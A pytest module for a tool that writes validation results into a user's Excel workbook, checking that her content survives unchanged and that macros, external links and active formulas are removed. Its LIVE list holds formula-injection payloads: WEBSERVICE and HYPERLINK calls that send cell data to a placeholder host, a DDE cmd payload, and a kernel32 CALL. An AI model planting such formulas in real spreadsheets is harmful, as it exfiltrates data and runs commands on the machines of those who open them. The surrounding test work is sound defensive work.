"""The result in the analyst's own workbook: all that is hers stays, every row has its outcome, nothing of it is live."""

import hashlib
import io
import posixpath
import re
import xml.etree.ElementTree as ET
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest
from python_calamine import CalamineWorkbook

from callsheet.sheets.read import ALLOWED, FileRead, read_file
from callsheet.sheets.result.exchange import WHY, NotKeptError, OwnWorkbook
from callsheet.sheets.result.own import LEFT, write_own
from callsheet.sheets.result.write import ResultSheet
from callsheet.sheets.style import ADDED_COLUMNS
from tests.callsheet.sheets.here import WORDS
from tests.support import workbooks
from tests.support.corpus import CORPUS
from tests.support.ooxml import faults
from tests.support.workbooks import (
    BY_NAME,
    Made,
    by_openpyxl,
    by_xlsxwriter,
    rewritten,
    with_macros,
    with_parts,
)

pytestmark = [
    pytest.mark.slow,
    pytest.mark.filterwarnings("ignore:.* extension is not supported and will be removed:UserWarning"),
]
CANARY = '=HYPERLINK("http://example.invalid/","x")'
OPEN_XML = ALLOWED | {".xlsm", ".xltx"}


@dataclass(frozen=True, slots=True)
class Written:
    """A result, what it was made of, and what was left out."""

    source: Path
    result: Path
    made: Made
    sheet: ResultSheet
    left: tuple[str, ...]


def read(path: Path) -> FileRead:
    return read_file(path, vocabulary=WORDS, allow=OPEN_XML)


def sheet_of(made: Made, source: Path, **changes: Any) -> ResultSheet:
    """Every second row invalid, with a problem in its first cell."""
    (found,) = (one for one in read(source).sheets if one.name == made.sheet)
    body = found.cells[found.cells.index > made.header_row]
    bad = [int(row) % 2 == 0 for row in body.index]
    outcomes = pd.DataFrame(
        {
            "status": ["invalid" if one else "loaded" for one in bad],
            "code": ["PHONE_LENGTH" if one else "" for one in bad],
            "reason": [CANARY if one else "" for one in bad],
            "fix": ["Look it up.\nType it again, _x0041_ <&> ]]>" if one else "" for one in bad],
        },
        index=body.index,
    )
    wrong = body.index[bad]
    problems = pd.DataFrame({"row": wrong, "column": 0, "message": CANARY})
    width = len(found.cells.columns)
    lines = (("File", "list.xlsx"), ("Load", "20261126-101500-ab12cd"))
    counts = {"loaded": bad.count(False), "invalid": bad.count(True)}
    whole = ResultSheet(made.sheet, made.header_row, ("x",) * width, body, outcomes, problems, lines, counts)
    return replace(whole, **changes)


def write(made: Made, folder: Path, ending: str = ".xlsx", **changes: Any) -> Written:
    source, result = folder / f"list{ending}", folder / "list.result.xlsx"
    source.write_bytes(made.data)
    sheet = sheet_of(made, source, **changes)
    own = OwnWorkbook(source, made.sheet, hashlib.sha256(made.data).hexdigest())
    return Written(source, result, made, sheet, write_own(result, sheet, own))


def part_of(data: bytes, sheet: str) -> str:
    """The part of a worksheet, found without the code that is tested."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        book = archive.read("xl/workbook.xml").decode()
        related = archive.read("xl/_rels/workbook.xml.rels").decode()
    tag = next(tag for tag in re.findall(r"<(?:x:)?sheet [^>]*>", book) if f'name="{sheet}"' in tag)
    own = re.findall(r'r:id="([^"]+)"', tag)[0]
    line = next(line for line in re.findall(r"<Relationship [^>]*>", related) if f'Id="{own}"' in line)
    target = re.findall(r'Target="([^"]+)"', line)[0]
    return target.lstrip("/") if target.startswith("/") else posixpath.join("xl", target)


def cells_in(xml: str) -> dict[str, str]:
    """Every cell as it is written, by its reference."""
    cell = r"""(<(?:x:)?c [^<>]*?r=["']([A-Z]+\d+)["'](?:[^<>]*/>|.*?</(?:x:)?c\s*>))"""
    found = re.findall(cell, xml, re.DOTALL)
    return {reference: text for text, reference in found}


def local(text: str) -> str:
    """A name as openpyxl shows it, without the place of its sheet."""
    return re.sub(r"localSheetId=\d+", "", text)


def looks(cell: Any) -> list[Any]:
    return [cell.fill, cell.font, cell.border, cell.alignment, cell.protection]


@pytest.fixture(scope="module", params=BY_NAME)
def written(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Written:
    """Each workbook written once; the tests only look at it."""
    return write(BY_NAME[request.param](), tmp_path_factory.mktemp("written"))


CHANGED = re.compile(
    r"\[Content_Types\]\.xml|xl/workbook\.xml|xl/_rels/workbook\.xml\.rels|xl/styles\.xml|xl/worksheets/_rels/.*"
    r"|xl/comments.*|xl/drawings/(?:vmlDrawing|commentsDrawing|legacyDrawing).*|xl/comments/.*"
)


def test_every_part_that_is_not_named_here_is_the_same_bytes(written: Written) -> None:
    before, after = zipfile.ZipFile(written.source), zipfile.ZipFile(written.result)
    own = part_of(written.made.data, written.made.sheet)
    for name in before.namelist():
        if name != own and not CHANGED.fullmatch(name):
            assert after.read(name) == before.read(name), name
    assert after.testzip() is None
    assert len(after.namelist()) == len(set(after.namelist()))


def test_her_cells_are_the_same_bytes_and_ours_stand_beside_them(written: Written) -> None:
    own = part_of(written.made.data, written.made.sheet)
    before = cells_in(zipfile.ZipFile(written.source).read(own).decode())
    after = cells_in(zipfile.ZipFile(written.result).read(own).decode())
    assert {reference: after.get(reference) for reference in before} == before
    assert not any("<f" in text for reference, text in after.items() if reference not in before)


def test_our_reader_reads_her_sheets_as_before_and_our_columns_to_the_right(written: Written) -> None:
    before, after = read(written.source), read(written.result)
    theirs = {sheet.name: sheet for sheet in after.sheets}
    for sheet in before.sheets:
        again, width = theirs[sheet.name], len(sheet.cells.columns)
        assert again.cells.iloc[:, :width].equals(sheet.cells)
        assert again.types.iloc[:, :width].equals(sheet.types)
        assert (again.facts.visibility, again.facts.filtered) == (
            sheet.facts.visibility,
            sheet.facts.filtered,
        )
        assert again.facts.merged == sheet.facts.merged
        assert again.facts.hidden_rows == sheet.facts.hidden_rows
    ours = theirs[written.made.sheet].cells
    header = list(ours.loc[written.made.header_row])
    assert header[-5:] == list(ADDED_COLUMNS)
    for row, status, code, reason, fix in written.sheet.outcomes.itertuples():
        assert list(ours.loc[row])[-5:] == [str(row), status, code, reason, fix]


def test_our_columns_are_seen_and_hers_as_before(written: Written) -> None:
    facts = {sheet.name: sheet for sheet in read(written.result).sheets}[written.made.sheet]
    width = len(facts.cells.columns)
    assert not set(range(width - 5, width)) & set(facts.facts.hidden_columns)


def test_other_readers_read_it(written: Written) -> None:
    with CalamineWorkbook.from_path(str(written.result)) as book:
        names = book.sheet_names
        assert names[0] == "callsheet result"
        with CalamineWorkbook.from_path(str(written.source)) as old:
            assert names[1:] == old.sheet_names
            for name in old.sheet_names:
                if old.get_sheet_by_name(name).to_python() != [] and name != written.made.sheet:
                    assert book.get_sheet_by_name(name).to_python() == old.get_sheet_by_name(name).to_python()
    by_cells(written)


def by_cells(written: Written) -> None:
    book: Any = openpyxl.load_workbook(written.result)
    old: Any = openpyxl.load_workbook(written.source)
    assert book.active.title == old.active.title
    page, before = book[written.made.sheet], old[written.made.sheet]
    for row in before.iter_rows():
        for cell in row:
            if cell.value is None and not cell.has_style:
                continue
            again = page[cell.coordinate]
            assert (again.value, again.number_format) == (cell.value, cell.number_format)
            assert [repr(look) for look in looks(again)] == [repr(look) for look in looks(cell)]
    for sheet in old.worksheets:
        named = {name: repr(one) for name, one in sheet.defined_names.items()}
        assert {name: local(repr(one)) for name, one in book[sheet.title].defined_names.items()} == {
            name: local(text) for name, text in named.items()
        }
    assert page.print_title_rows == before.print_title_rows


def test_each_problem_cell_has_a_comment_and_hers_stay(written: Written) -> None:
    page, before = (
        openpyxl.load_workbook(path)[written.made.sheet] for path in (written.result, written.source)
    )
    for row in before.iter_rows():
        for cell in row:
            if cell.comment:
                assert page[cell.coordinate].comment.text == cell.comment.text
    for row in written.sheet.cell_problems["row"]:
        comment = page.cell(int(row), 1).comment
        assert comment is not None
        assert before.cell(int(row), 1).comment or comment.text == f"callsheet:\n{CANARY}\u200b"
    header = [cell for cell in page[written.made.header_row] if cell.value in ADDED_COLUMNS]
    assert all(cell.comment for cell in header)


def test_the_first_sheet_says_what_became_of_it(written: Written) -> None:
    page: Any = openpyxl.load_workbook(written.result).worksheets[0]
    said = [str(cell.value) for row in page.iter_rows() for cell in row if cell.value is not None]
    assert {"Result", "20261126-101500-ab12cd", "What to do next"} <= set(said)
    assert page._charts
    (labels,) = [series.dLbls for series in page._charts[0].series]
    assert (labels.showVal, labels.showSerName, labels.showCatName) == (True, False, False)


def test_the_same_input_gives_the_same_bytes(written: Written, tmp_path: Path) -> None:
    (tmp_path / "again").mkdir()
    again = write(written.made, tmp_path / "again")
    assert again.result.read_bytes() == written.result.read_bytes()


def test_elements_of_the_worksheet_are_in_the_order_of_the_format(written: Written) -> None:
    from callsheet.sheets.parser.annotate.worksheet import _ORDER

    own = part_of(written.made.data, written.made.sheet)
    xml = zipfile.ZipFile(written.result).read(own).decode()
    bare = re.sub(r"<(?:x:)?sheetData>.*</(?:x:)?sheetData>", "<sheetData/>", xml, flags=re.DOTALL)
    names = [child.tag.rpartition("}")[2] for child in ET.fromstring(bare)]
    known = [_ORDER.index(name) for name in names if name in _ORDER]
    assert known == sorted(known)
    single = [name for name in names if name != "conditionalFormatting"]
    assert len(single) == len(set(single))


def test_macros_are_left_out_and_said(tmp_path: Path) -> None:
    made = with_macros(by_xlsxwriter(workbooks._xw_full))
    written = write(made, tmp_path, ".xlsm")
    assert written.left == ("LEFT_MACROS",)
    with zipfile.ZipFile(written.result) as archive:
        every = b"".join(archive.read(name) for name in archive.namelist())
        types = archive.read("[Content_Types].xml").decode()
    assert b"Auto_Open" not in every
    assert b"vbaProject" not in every
    assert "macroEnabled" not in types
    assert read(written.result).problems == ()
    page = openpyxl.load_workbook(written.result).worksheets[0]
    assert "macros" in [cell.value for row in page.iter_rows() for cell in row]


LIVE = (
    'WEBSERVICE("http://example.invalid/"&amp;A2)',
    "_xlfn.WEBSERVICE(A2)",
    "_xlfn._xlws.PY(1,A2)",
    '_xlfn.IMAGE("http://example.invalid/"&amp;A2)',
    'HYPERLINK("http://example.invalid/?q="&amp;A2,"x")',
    "hyperlink ( A2 )",
    'SUM(1,RTD("a",,"b"))',
    "cmd|'/c calc'!A0",
    'DDE("a","b","c")',
    "WEB&#83;ERVICE(A2)",
    'IF(TRUE,_xlfn.STOCKHISTORY("x",1))',
    'CALL("kernel32","Beep","JJJ",1,2)',
    'CUBEVALUE("a","b")',
)
QUIET = (
    "SUM(A2:A7)",
    'HYPERLINK("#Customers!A1","up")',
    'IF(A2="WEBSERVICE(1)","a|b","")',
    "Table1[1]+1",
    "CALLS+1",
    "MY.IMAGE(1)",
    "RECALL(1)",
)


@pytest.mark.parametrize("formula", LIVE)
@pytest.mark.parametrize("elsewhere", [False, True])
@pytest.mark.thinned(3)
def test_a_formula_that_does_something_becomes_its_value(
    formula: str, elsewhere: bool, tmp_path: Path
) -> None:
    written = write(with_formula(formula, elsewhere=elsewhere), tmp_path)
    assert written.left == ("LEFT_FORMULAS",)
    xml = everything(written.result)
    assert formula not in xml
    assert "<v>77</v>" in xml
    assert "calcChain" not in xml


@pytest.mark.parametrize("formula", QUIET)
def test_a_formula_that_only_calculates_stays(formula: str, tmp_path: Path) -> None:
    written = write(with_formula(formula), tmp_path)
    assert written.left == ()
    assert formula.replace("&", "&amp;") in everything(written.result)


def with_formula(formula: str, *, elsewhere: bool = False) -> Made:
    """A workbook with a formula whose value is 77, in the list or on a sheet of its own."""

    def draw(book: Any, page: Any) -> None:
        other = book.add_worksheet("Other")
        (other if elsewhere else page).write_formula(4, 3, "=FORMULA", None, 77)

    made = by_xlsxwriter(draw)
    change = {name: lambda xml: xml.replace("FORMULA", formula) for name in ("sheet1", "sheet2")}
    return replace(made, data=workbooks.rewritten(made.data, **change))


def everything(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return "".join(archive.read(name).decode("utf-8", "replace") for name in archive.namelist())


def test_what_is_shared_with_a_live_formula_goes_with_it(tmp_path: Path) -> None:
    shared = '<f t="shared" ref="D2:D4" si="0">WEBSERVICE(A2)</f><v>1</v>'
    cells = {"D2": shared, "D3": '<f t="shared" si="0"/><v>2</v>', "D4": '<f t="shared" si="0"></f><v>3</v>'}
    made = by_xlsxwriter(lambda _, page: [page.write_number(name, 1) for name in cells])

    def change(xml: str) -> str:
        for name, content in cells.items():
            xml = re.sub(rf'(<c r="{name}"[^>]*>)<v>1</v>', rf"\1{content}", xml)
        return xml

    written = write(replace(made, data=workbooks.rewritten(made.data, sheet1=change)), tmp_path)
    xml = everything(written.result)
    assert written.left == ("LEFT_FORMULAS",)
    assert 't="shared"' not in xml
    assert all(f"<v>{number}</v>" in xml for number in (1, 2, 3))


def with_link(made: Made) -> Made:
    """The same workbook with a link to another one, which a formula in D5 uses."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    with zipfile.ZipFile(io.BytesIO(made.data)) as archive:
        related = archive.read("xl/_rels/workbook.xml.rels").decode()
        types = archive.read("[Content_Types].xml").decode()
    link = '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
    line = f'<Relationship Id="rId888" Type="{kind}/externalLink" Target="externalLinks/externalLink1.xml"/>'
    override = '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>'
    far = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{kind}/externalLinkPath" Target="file:///other.xlsx" TargetMode="External"/></Relationships>'
    more = {
        "xl/externalLinks/externalLink1.xml": link.encode(),
        "xl/externalLinks/_rels/externalLink1.xml.rels": far.encode(),
        "xl/_rels/workbook.xml.rels": related.replace("</Relationships>", line + "</Relationships>").encode(),
        "[Content_Types].xml": types.replace("</Types>", override + "</Types>").encode(),
    }
    named = '<definedNames><definedName name="Far">[1]Other!$A$1</definedName></definedNames>'
    references = '</sheets><externalReferences><externalReference r:id="rId888"/></externalReferences>'
    return replace(
        made,
        data=with_parts(made.data, more, workbook=lambda xml: xml.replace("</sheets>", references + named)),
    )


def test_links_to_other_files_are_left_out_and_their_formulas_become_values(tmp_path: Path) -> None:
    written = write(with_link(with_formula("SUM([1]Other!A1,Table1[1])")), tmp_path)
    assert written.left == ("LEFT_FORMULAS", "LEFT_LINKS")
    xml = everything(written.result)
    assert not re.search("externalLink|externalReference|other.xlsx|Far", xml)
    assert "<v>77</v>" in xml


def test_a_workbook_whose_first_sheet_has_our_name_keeps_it(tmp_path: Path) -> None:
    made = by_openpyxl(lambda book, _: book.create_sheet("callsheet result"))
    written = write(made, tmp_path)
    assert openpyxl.load_workbook(written.result).sheetnames == [
        "callsheet result (2)",
        "Customers",
        "callsheet result",
    ]


STRANGE = {
    "two dialects": dict(
        workbook=lambda xml: xml.replace(
            "schemas.openxmlformats.org/spreadsheetml/2006/main", "purl.oclc.org/ooxml/spreadsheetml/main"
        )
    ),
    "formats of the other dialect": dict(
        styles=lambda xml: xml.replace(
            "schemas.openxmlformats.org/spreadsheetml/2006/main", "purl.oclc.org/ooxml/spreadsheetml/main"
        )
    ),
    "a comment among the rows": dict(sheet1=lambda xml: xml.replace("</row>", "<!-- </row> --></row>", 1)),
    "rows without numbers": dict(sheet1=lambda xml: re.sub(r'<row r="\d+"', "<row", xml)),
    "no sheet of that name": dict(workbook=lambda xml: xml.replace('name="Customers"', 'name="Other"')),
    "no formats": dict(styles=lambda xml: re.sub("<cellXfs.*?</cellXfs>", "", xml)),
    "an instruction": dict(sheet1=lambda xml: xml.replace("<sheetData>", "<sheetData><?x?>")),
    "a live format": dict(
        sheet1=lambda xml: xml.replace(
            "</sheetData>",
            '</sheetData><conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>WEBSERVICE(A1)</formula></cfRule></conditionalFormatting>',
        )
    ),
}


@pytest.mark.parametrize("name", STRANGE)
def test_what_is_not_plain_is_not_touched(name: str, tmp_path: Path) -> None:
    made, bad = by_xlsxwriter(), tmp_path / "bad.xlsx"
    sheet = sheet_of_plain(made, tmp_path)
    bad.write_bytes(workbooks.rewritten(made.data, **STRANGE[name]))
    with pytest.raises(NotKeptError) as why:
        write_own(tmp_path / "r.xlsx", sheet, own_of(bad))
    assert why.value.code in WHY
    assert not (tmp_path / "r.xlsx").exists()


def own_of(path: Path, sheet: str = "Customers") -> OwnWorkbook:
    return OwnWorkbook(path, sheet, hashlib.sha256(path.read_bytes()).hexdigest())


def sheet_of_plain(made: Made, folder: Path) -> ResultSheet:
    source = folder / "good.xlsx"
    source.write_bytes(made.data)
    return sheet_of(made, source)


RELATED = (
    ("worksheets/_rels/sheet1.xml.rels", "oleObject", "OWN_CONTROLS"),
    ("worksheets/_rels/sheet1.xml.rels", "ctrlProp", "OWN_CONTROLS"),
    ("worksheets/_rels/sheet1.xml.rels", "somethingNew", "OWN_STRUCTURE"),
    ("_rels/workbook.xml.rels", "xlMacrosheet", "OWN_CONTROLS"),
    ("_rels/workbook.xml.rels", "xmlMaps", "OWN_CONTROLS"),
    ("_rels/workbook.xml.rels", "worksheet", "OWN_STRUCTURE"),
)


@pytest.mark.parametrize(("part", "kind", "code"), RELATED)
def test_what_nobody_can_carry_over_is_named(part: str, kind: str, code: str, tmp_path: Path) -> None:
    made, bad = by_xlsxwriter(), tmp_path / "bad.xlsx"
    sheet = sheet_of_plain(made, tmp_path)
    with zipfile.ZipFile(io.BytesIO(made.data)) as archive:
        name = f"xl/{part}"
        empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
        related = archive.read(name) if name in archive.namelist() else empty
    target = "../gone.xml" if kind == "worksheet" else "/xl/theme/theme1.xml"
    line = f'<Relationship Id="x1" Type="http://a/relationships/{kind}" Target="{target}"/></Relationships>'
    bad.write_bytes(with_parts(made.data, {name: related.replace(b"</Relationships>", line.encode())}))
    with pytest.raises(NotKeptError) as why:
        write_own(tmp_path / "r.xlsx", sheet, own_of(bad))
    assert why.value.code == code


def test_a_file_that_changed_or_is_gone_is_not_used(tmp_path: Path) -> None:
    made = by_openpyxl()
    sheet = sheet_of_plain(made, tmp_path)
    other = OwnWorkbook(tmp_path / "good.xlsx", "Customers", "0" * 64)
    with pytest.raises(NotKeptError, match="OWN_CHANGED"):
        write_own(tmp_path / "r.xlsx", sheet, other)
    with pytest.raises(NotKeptError, match="OWN_GONE"):
        write_own(tmp_path / "r.xlsx", sheet, replace(other, file=tmp_path / "none.xlsx"))


def test_a_row_that_is_not_in_the_workbook_loses_nobody_an_outcome(tmp_path: Path) -> None:
    made = by_openpyxl()
    sheet = sheet_of_plain(made, tmp_path)
    more = pd.concat([sheet.outcomes, sheet.outcomes.iloc[-1:].set_axis([99])])
    with pytest.raises(NotKeptError):
        write_own(tmp_path / "r.xlsx", replace(sheet, outcomes=more), own_of(tmp_path / "good.xlsx"))


def test_a_result_is_not_written_into_a_result(tmp_path: Path) -> None:
    made = by_openpyxl()
    sheet = sheet_of_plain(made, tmp_path)
    with pytest.raises(NotKeptError, match="OWN_RESULT"):
        write_own(
            tmp_path / "r.xlsx",
            replace(sheet, header=("a", "callsheet status", "b")),
            own_of(tmp_path / "good.xlsx"),
        )


def test_every_code_of_the_parser_has_a_sentence() -> None:
    from callsheet.messages.catalogue import TEXTS

    assert {*WHY, *LEFT, "OWN_GONE", "OWN_SECRETS"} <= set(TEXTS)


def test_rows_whose_reason_wraps_are_as_high_as_it_needs(tmp_path: Path) -> None:
    """Also one whose height somebody has set; one that is high enough keeps it, and one that is not seen stays unseen."""

    def draw(_: Any, page: Any) -> None:
        page.set_row(2, 20)
        page.set_row(3, 12)
        page.set_row(4, 30)
        page.set_row(5, 200)

    made = by_xlsxwriter(draw)
    source = tmp_path / "list.xlsx"
    source.write_bytes(
        workbooks.rewritten(
            made.data, sheet1=lambda xml: xml.replace('"12" customHeight="1"', '"12"').replace('"30"', '"0"')
        )
    )
    sheet = sheet_of(made, source)
    sheet.outcomes["reason"] = "It is wrong. " * 15
    write_own(tmp_path / "r.xlsx", sheet, own_of(source))
    page = openpyxl.load_workbook(tmp_path / "r.xlsx")["Customers"]
    heights = {row: page.row_dimensions[row].height for row in range(2, 8)}
    assert heights == {2: 60, 3: 60, 4: 60, 5: 0, 6: 200.25, 7: 60}


@pytest.mark.parametrize("vertical", ["bottom", "center", "top"])
def test_our_texts_stand_in_a_row_where_hers_do(vertical: str, tmp_path: Path) -> None:
    def draw(book: Any, page: Any) -> None:
        looks = {"center": "vcenter"}.get(vertical, vertical)
        for at in range(3):
            look = book.add_format({"valign": looks, "indent": at + 1})
            page.write_string(6, at, "1", look)

    written = write(by_xlsxwriter(draw), tmp_path)
    cells: Any = openpyxl.load_workbook(written.result)["Customers"]
    found = {cells.cell(2, column).alignment.vertical or "bottom" for column in range(4, 9)}
    assert found == {vertical}


@pytest.mark.parametrize("many", [2_100, 9_000])
def test_more_problems_than_comments_are_counted(many: int, tmp_path: Path) -> None:
    made = by_xlsxwriter(lambda _, page: [page.write_number(at, 0, at) for at in range(1, many)])
    written = write(replace(made, rows=many - 1), tmp_path)
    book: Any = openpyxl.load_workbook(written.result)
    page = book["Customers"]
    wrong = len(written.sheet.cell_problems)
    commented = sum(page.cell(row, 1).comment is not None for row in range(2, many + 1))
    assert commented == min(wrong, 2_000)
    said = [cell.value for row in book.worksheets[0].iter_rows() for cell in row]
    assert (f"{wrong - 2_000:,}" in said) == (wrong > 2_000)
    marked = [one for rule in page.conditional_formatting for one in rule.sqref.ranges]
    assert len(marked) == wrong


def again(first: Written, folder: Path, source: Path | None = None) -> Path:
    """A result written into the result of an earlier load, whose invalid rows are loaded by now."""
    source = source or first.result
    (found,) = (one for one in read(source).sheets if one.name == first.made.sheet)
    header = tuple(str(cell) for cell in found.cells.loc[first.sheet.header_row])
    outcomes = first.sheet.outcomes.assign(status="loaded", code="", reason="", fix="")
    changes = {"header": header, "outcomes": outcomes, "cell_problems": first.sheet.cell_problems.iloc[:1]}
    sheet = replace(first.sheet, **changes)  # type: ignore[arg-type]
    write_own(folder / "again.xlsx", sheet, own_of(source, first.made.sheet))
    return folder / "again.xlsx"


@pytest.mark.thinned(3)
def test_the_answer_in_a_result_that_comes_back_gives_way_to_the_new_one(
    written: Written, tmp_path: Path
) -> None:
    if b"<x:c " in zipfile.ZipFile(written.result).read(part_of(written.made.data, written.made.sheet)):
        with pytest.raises(NotKeptError, match="OWN_RESULT"):
            again(written, tmp_path)
        return
    result = again(written, tmp_path)
    before, after = openpyxl.load_workbook(written.result), openpyxl.load_workbook(result)
    assert after.sheetnames == before.sheetnames
    assert after.active.title == before.active.title  # type: ignore[union-attr]
    page, old = after[written.made.sheet], openpyxl.load_workbook(written.source)[written.made.sheet]
    header = [cell.value for cell in page[written.made.header_row]]
    assert header == [cell.value for cell in before[written.made.sheet][written.made.header_row]]
    row = [cell.value for cell in page[written.made.header_row + 1]]
    assert row[-4:] == ["loaded", None, None, None]
    commented = {cell.coordinate for line in page.iter_rows() for cell in line if cell.comment}
    hers = {cell.coordinate for line in old.iter_rows() for cell in line if cell.comment}
    first = int(written.sheet.cell_problems["row"].iloc[0])
    assert {one for one in commented if one[1:] != str(written.made.header_row)} <= hers | {f"A{first}"}
    assert hers <= commented
    own = part_of(written.made.data, written.made.sheet)
    cells = cells_in(zipfile.ZipFile(result).read(part_of(result.read_bytes(), written.made.sheet)).decode())
    theirs = cells_in(zipfile.ZipFile(written.source).read(own).decode())
    assert {reference: cells.get(reference) for reference in theirs} == theirs
    marked = [rule for rule in page.conditional_formatting if "TRUE" in str(rule.rules[0].formula)]
    assert [str(rule.sqref) for rule in marked] == [f"A{first}"]
    with zipfile.ZipFile(result) as new, zipfile.ZipFile(written.result) as former:
        assert len(new.namelist()) == len(former.namelist())


def test_a_third_result_is_as_large_as_the_second(tmp_path: Path) -> None:
    (tmp_path / "two").mkdir()
    first = write(BY_NAME["everything"](), tmp_path)
    second = again(first, tmp_path)
    third = again(first, tmp_path / "two", second)
    assert abs(third.stat().st_size - second.stat().st_size) < 2_000


def test_a_result_saved_by_another_program_is_written_into_or_left_alone(tmp_path: Path) -> None:
    first = write(by_openpyxl(), tmp_path)
    book = openpyxl.load_workbook(first.result)
    book.save(tmp_path / "saved.xlsx")
    result = again(first, tmp_path, tmp_path / "saved.xlsx")
    assert openpyxl.load_workbook(result).sheetnames == ["callsheet result", "Customers"]


def without_authors(path: Path) -> Path:
    """A workbook as LibreOffice and Google Sheets save it: whose comments they are is gone, TRUE is 1."""
    data = path.read_bytes()
    with zipfile.ZipFile(path) as archive:
        names = [name.rpartition("/")[2].partition(".")[0] for name in archive.namelist()]
    changes: dict[str, Any] = {
        name: lambda xml: xml.replace("<author>callsheet</author>", "<author> </author>")
        for name in names
        if name.startswith("comments")
    }
    changes |= {
        name: lambda xml: xml.replace("<formula>TRUE</formula>", "<formula>1</formula>")
        for name in names
        if name.startswith("sheet")
    }
    path.write_bytes(rewritten(data, **changes))
    return path


@pytest.mark.parametrize("name", ["comments", "threaded comments", "plain"])
@pytest.mark.parametrize("saved", [lambda path: path, without_authors])
def test_our_comments_give_way_and_hers_stay_whatever_program_saved_the_result(
    name: str, saved: Callable[[Path], Path], tmp_path: Path
) -> None:
    first = write({**BY_NAME, **CORPUS}[name](), tmp_path)
    (tmp_path / "again").mkdir()
    result = again(first, tmp_path / "again", saved(first.result))
    before, after = (openpyxl.load_workbook(path)[first.made.sheet] for path in (first.source, result))
    hers, now = (
        {cell.coordinate: cell.comment.text for line in page.iter_rows() for cell in line if cell.comment}
        for page in (before, after)
    )
    wrong = f"A{first.sheet.cell_problems['row'].iloc[0]}"
    ours = {wrong: f"callsheet:\n{CANARY}\u200b"} | hers
    header = {place for place in now if place not in ours}
    assert {place: text for place, text in now.items() if place in ours} == ours
    assert {after[place].value for place in header} == set(ADDED_COLUMNS)
    marked = [str(rule.sqref) for rule in after.conditional_formatting]
    assert marked == [wrong]
    assert not [fault for fault in faults(result.read_bytes()) if fault not in faults(first.made.data)]


def test_a_result_with_something_behind_the_answer_is_left_alone(tmp_path: Path) -> None:
    first = write(by_openpyxl(), tmp_path)
    book: Any = openpyxl.load_workbook(first.result)
    book["Customers"]["J3"] = "mine"
    book.save(tmp_path / "saved.xlsx")
    with pytest.raises(NotKeptError, match="OWN_RESULT"):
        again(first, tmp_path, tmp_path / "saved.xlsx")


FILTERS = (
    # where she filters, the row of the header -> where the result does
    ("A1:C7", 1, "A1:H7"),
    ("B1:C7", 1, "B1:H7"),
    ("A1:B7", 1, "A1:B7"),
    ("A3:C8", 4, "A3:C8"),
)


@pytest.mark.parametrize(("hers", "header_row", "now"), FILTERS)
def test_sorting_with_her_filter_takes_our_columns_along(
    hers: str, header_row: int, now: str, tmp_path: Path
) -> None:
    """A filter of the whole list has our columns, too; one of some columns stays as it is."""

    def draw(_: Any, page: Any) -> None:
        page.autofilter(hers)

    written = write(by_xlsxwriter(draw, header_row=header_row), tmp_path)
    page = openpyxl.load_workbook(written.result)["Customers"]
    assert page.auto_filter.ref == now
    with zipfile.ZipFile(written.result) as archive:
        book = archive.read("xl/workbook.xml").decode()
    first, last = (re.sub(r"([A-Z])", r"$\1$", one) for one in now.split(":"))
    assert f'localSheetId="1" hidden="1">Customers!{first}:{last}</definedName>' in book
    assert faults(written.result.read_bytes()) == []


def test_a_filter_of_a_result_that_comes_back_is_as_wide(tmp_path: Path) -> None:
    first = write(by_xlsxwriter(lambda _, page: page.autofilter("A1:C7")), tmp_path)
    result = again(first, tmp_path)
    page = openpyxl.load_workbook(result)["Customers"]
    assert page.auto_filter.ref == "A1:H7"
